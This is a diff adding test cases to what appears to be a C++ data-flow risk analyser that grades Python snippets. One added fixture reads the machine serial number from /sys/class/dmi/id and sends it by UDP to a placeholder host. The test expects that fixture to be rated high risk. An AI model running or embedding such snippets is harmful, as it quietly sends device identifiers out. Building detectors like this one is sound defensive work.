@@ -187,6 +187,16 @@ TEST(AssessDataFlow, LambdasOfSeveralParametersClassAttributesAndOneItemLoops) {
   EXPECT_EQ(level("import requests\ndef send(url, **kw):\n    return requests.post(url, **kw)\n"
                   "send('https://x.example/v', data='done', timeout=5)\n"),
             RiskLevel::medium);
+  // A fallback returned after the data does not wash the data out of the function.
+  EXPECT_EQ(level("import socket\ndef dmi(field):\n    try:\n        with open(f'/sys/class/dmi/id/{field}') as fh:\n"
+                  "            return fh.read()\n    except OSError:\n        return 'n/a'\n"
+                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                  "s.sendto(dmi('product_serial').encode(), ('h.example', 5140))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import socket\ndef score(n):\n    try:\n        return str(n * 2)\n    except TypeError:\n"
+                  "        return 'n/a'\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                  "s.sendto(score(4).encode(), ('h.example', 5140))\n"),
+            RiskLevel::medium);
   // A class's own table, walked through self in a method.
   EXPECT_EQ(level("import requests\nclass P:\n    sources = {'cpu': '/proc/cpuinfo'}\n    def g(self):\n"
                   "        for name, path in self.sources.items():\n            return open(path).read()\n"
